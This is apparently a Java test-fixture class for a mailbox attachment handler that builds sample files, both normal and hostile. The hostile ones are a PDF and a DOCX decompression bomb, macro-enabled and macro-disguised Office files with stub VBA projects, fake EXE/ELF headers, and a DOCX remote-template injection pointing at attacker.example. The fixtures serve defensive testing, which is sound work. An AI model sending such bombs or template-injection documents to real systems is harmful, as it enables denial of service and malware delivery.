package ru.gospochta.mailbox.attachments;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.encoding.GlyphList;

/** Real files of every kind a sender might attach, made on the spot: the good, the disguised and the hostile. */
public final class AttachmentFiles {

    static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    static final String EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    static final String WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml";
    static final String EXCEL_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    static final String SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
    static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    static final String S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    static final int MB = 1024 * 1024;

    private AttachmentFiles() {
    }

    /**
     * A one-page PDF written by PDFBox, with a compressed content stream. Letters outside Latin-1
     * are shown through a Type 1 font whose encoding names their glyphs, so PDFBox reads them
     * back without any font file on the machine.
     */
    public static byte[] pdf(String text) {
        try (PDDocument document = new PDDocument()) {
            page(document, text);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF that asks for a password before it shows anything. */
    static byte[] encryptedPdf(String text) {
        return protectedPdf(text, "секрет");
    }

    /** A PDF that opens without a password but is encrypted to forbid copying and printing. */
    static byte[] restrictedPdf(String text) {
        return protectedPdf(text, "");
    }

    private static byte[] protectedPdf(String text, String userPassword) {
        try (PDDocument document = new PDDocument()) {
            page(document, text);
            AccessPermission permissions = new AccessPermission();
            permissions.setCanExtractContent(false);
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-password", userPassword, permissions);
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void page(PDDocument document, String text) throws IOException {
        page(document, text, 0);
    }

    private static void page(PDDocument document, String text, int paddingMegabytes) throws IOException {
        PDPage page = new PDPage();
        document.addPage(page);
        COSArray differences = new COSArray();
        differences.add(COSInteger.get(128));
        ByteArrayOutputStream codes = new ByteArrayOutputStream();
        Map<Integer, Integer> assigned = new LinkedHashMap<>();
        text.codePoints().forEach(cp -> {
            if (cp < 128) {
                codes.write(cp);
            } else {
                codes.write(assigned.computeIfAbsent(cp, c -> {
                    differences.add(COSName.getPDFName(GlyphList.getAdobeGlyphList().codePointToName(c)));
                    return 128 + assigned.size();
                }));
            }
        });
        COSDictionary encoding = new COSDictionary();
        encoding.setItem(COSName.TYPE, COSName.ENCODING);
        encoding.setItem(COSName.BASE_ENCODING, COSName.WIN_ANSI_ENCODING);
        encoding.setItem(COSName.DIFFERENCES, differences);
        COSDictionary font = new COSDictionary();
        font.setItem(COSName.TYPE, COSName.FONT);
        font.setItem(COSName.SUBTYPE, COSName.TYPE1);
        font.setItem(COSName.BASE_FONT, COSName.getPDFName("Helvetica"));
        font.setItem(COSName.ENCODING, encoding);
        // Widths keep letters apart: at one spot, PDFBox would drop a doubled letter as overprinting.
        COSArray widths = new COSArray();
        for (int code = 32; code <= 255; code++) {
            widths.add(COSInteger.get(600));
        }
        font.setInt(COSName.FIRST_CHAR, 32);
        font.setInt(COSName.LAST_CHAR, 255);
        font.setItem(COSName.WIDTHS, widths);
        PDResources resources = new PDResources();
        resources.put(COSName.getPDFName("F1"), new PDType1Font(font));
        page.setResources(resources);

        PDStream content = new PDStream(document);
        try (OutputStream out = content.createOutputStream(COSName.FLATE_DECODE)) {
            out.write("BT /F1 14 Tf 72 700 Td <".getBytes(StandardCharsets.US_ASCII));
            for (byte b : codes.toByteArray()) {
                out.write(String.format("%02X", b & 0xFF).getBytes(StandardCharsets.US_ASCII));
            }
            out.write("> Tj ET".getBytes(StandardCharsets.US_ASCII));
            byte[] spaces = new byte[MB];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < paddingMegabytes; i++) {
                out.write(spaces);
            }
        }
        page.setContents(content);
    }

    private static byte[] save(PDDocument document) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    /**
     * A PDF with readable text whose content stream goes on with 80 MB of spaces, compressed
     * to under a hundred kilobytes: what PDFBox would inflate into memory whole.
     */
    static byte[] pdfBomb(String text) {
        try (PDDocument document = new PDDocument()) {
            page(document, text, 80);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] docx(String... paragraphs) {
        StringBuilder body = new StringBuilder();
        for (String paragraph : paragraphs) {
            // Word splits a paragraph into runs wherever formatting changes, even inside a word.
            int half = paragraph.length() / 2;
            body.append("<w:p><w:r><w:t xml:space=\"preserve\">").append(paragraph, 0, half)
                    .append("</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>").append(paragraph.substring(half))
                    .append("</w:t></w:r></w:p>");
        }
        return office(WORD, "word/document.xml", Map.of("word/document.xml",
                "<w:document xmlns:w=\"" + W + "\"><w:body>" + body + "</w:body></w:document>"));
    }

    static byte[] xlsx(String sharedString, String inlineString) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("xl/workbook.xml", "<workbook xmlns=\"" + S + "\"><sheets><sheet name=\"Лист1\" sheetId=\"1\"/></sheets></workbook>");
        parts.put("xl/sharedStrings.xml", "<sst xmlns=\"" + S + "\" count=\"1\"><si><t>" + sharedString
                + "</t><rPh sb=\"0\" eb=\"1\"><t>ふりがな</t></rPh></si></sst>");
        parts.put("xl/worksheets/sheet1.xml", "<worksheet xmlns=\"" + S + "\"><sheetData><row r=\"1\">"
                + "<c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"inlineStr\"><is><t>" + inlineString + "</t></is></c>"
                + "<c r=\"C1\"><v>12345</v></c></row></sheetData></worksheet>");
        return office(EXCEL, "xl/workbook.xml", parts, Map.of(
                "/xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
                "/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"));
    }

    /** A Word document with macros, as Word saves it: its own main type and the macros in vbaProject.bin. */
    static byte[] docm() {
        Map<String, byte[]> entries = officeEntries(WORD_MACROS, "word/document.xml",
                Map.of("word/document.xml", "<w:document xmlns:w=\"" + W + "\"/>"), Map.of());
        entries.put("word/vbaProject.bin", cfb("VBA", "_VBA_PROJECT"));
        return zip(entries);
    }

    static byte[] xlsm() {
        Map<String, byte[]> entries = officeEntries(EXCEL_MACROS, "xl/workbook.xml",
                Map.of("xl/workbook.xml", "<workbook xmlns=\"" + S + "\"/>"), Map.of());
        entries.put("xl/vbaProject.bin", cfb("VBA", "_VBA_PROJECT"));
        return zip(entries);
    }

    /** A DOCX by its main part, but carrying macros anyway: the name does not make them harmless. */
    static byte[] docxWithHiddenMacros() {
        Map<String, byte[]> entries = officeEntries(WORD, "word/document.xml",
                Map.of("word/document.xml", "<w:document xmlns:w=\"" + W + "\"/>"), Map.of());
        entries.put("word/vbaProject.bin", cfb("VBA", "_VBA_PROJECT"));
        return zip(entries);
    }

    /** A DOCX whose settings fetch a template from the network when opened: how macros get in from outside. */
    static byte[] docxWithRemoteTemplate() {
        Map<String, byte[]> entries = officeEntries(WORD, "word/document.xml",
                Map.of("word/document.xml", "<w:document xmlns:w=\"" + W + "\"/>"), Map.of());
        entries.put("word/_rels/settings.xml.rels", utf8("""
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                 Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"""));
        return zip(entries);
    }

    /** A DOCX with more parts, e.g. files embedded in it. */
    static byte[] docxWith(Map<String, byte[]> extra) {
        Map<String, byte[]> entries = officeEntries(WORD, "word/document.xml",
                Map.of("word/document.xml", "<w:document xmlns:w=\"" + W + "\"/>"), Map.of());
        entries.putAll(extra);
        return zip(entries);
    }

    static byte[] pptx() {
        return office(SLIDES, "ppt/presentation.xml", Map.of("ppt/presentation.xml", "<p:presentation "
                + "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>"));
    }

    /** A DOCX whose body inflates a thousandfold, from about twenty kilobytes to 20 MB. */
    static byte[] zipBomb() {
        byte[] padding = new byte[20 * MB];
        Arrays.fill(padding, (byte) ' ');
        Map<String, byte[]> entries = officeEntries(WORD, "word/document.xml", Map.of(), Map.of());
        entries.put("word/document.xml", padding);
        return zip(entries);
    }

    static byte[] office(String mainType, String mainPart, Map<String, String> parts) {
        return office(mainType, mainPart, parts, Map.of());
    }

    static byte[] office(String mainType, String mainPart, Map<String, String> parts, Map<String, String> overrides) {
        return zip(officeEntries(mainType, mainPart, parts, overrides));
    }

    private static Map<String, byte[]> officeEntries(String mainType, String mainPart, Map<String, String> parts,
            Map<String, String> overrides) {
        StringBuilder types = new StringBuilder("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/" + mainPart + "\" ContentType=\"" + mainType + "\"/>");
        overrides.forEach((part, type) -> types.append("<Override PartName=\"").append(part)
                .append("\" ContentType=\"").append(type).append("\"/>"));
        types.append("</Types>");
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", utf8(types.toString()));
        entries.put("_rels/.rels", utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + "officeDocument\" Target=\"" + mainPart + "\"/></Relationships>"));
        parts.forEach((name, xml) -> entries.put(name, utf8(xml)));
        return entries;
    }

    static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * An OLE2 compound file with a directory of the given stream names: enough structure for
     * every reader that looks at the header and the directory, without the sector chains.
     */
    static byte[] cfb(String... streams) {
        ByteBuffer file = ByteBuffer.allocate(512 * 3).order(ByteOrder.LITTLE_ENDIAN);
        file.put(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
        file.position(0x18).putShort((short) 0x3E).putShort((short) 3).putShort((short) 0xFFFE).putShort((short) 9)
                .putShort((short) 6);
        file.position(0x30).putInt(1);
        String[] names = new String[streams.length + 1];
        names[0] = "Root Entry";
        System.arraycopy(streams, 0, names, 1, streams.length);
        for (int i = 0; i < names.length; i++) {
            int at = 512 + i * 128;
            byte[] name = (names[i] + "\0").getBytes(StandardCharsets.UTF_16LE);
            file.position(at).put(name);
            file.position(at + 64).putShort((short) name.length).put((byte) (i == 0 ? 5 : 2));
        }
        return file.array();
    }

    static byte[] png() {
        return image("png", BufferedImage.TYPE_INT_ARGB);
    }

    static byte[] jpeg() {
        return image("jpg", BufferedImage.TYPE_INT_RGB);
    }

    private static byte[] image(String format, int type) {
        BufferedImage image = new BufferedImage(40, 28, type);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, 40, 28);
        g.setColor(Color.BLUE);
        g.fillRect(4, 4, 12, 16);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** PNG's signature and zeros up to the size: the format is right, only the size counts. */
    static byte[] pngOfSize(int size) {
        byte[] signature = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
        return Arrays.copyOf(signature, size);
    }

    static byte[] exe() {
        byte[] bytes = new byte[512];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, bytes, 78, stub.length);
        return bytes;
    }

    static byte[] elf() {
        byte[] bytes = new byte[64];
        System.arraycopy(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, 0, bytes, 0, 7);
        return bytes;
    }

    static byte[] gzip(String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(utf8(text));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] withPrefix(byte[] prefix, int size) {
        return Arrays.copyOf(prefix, size);
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
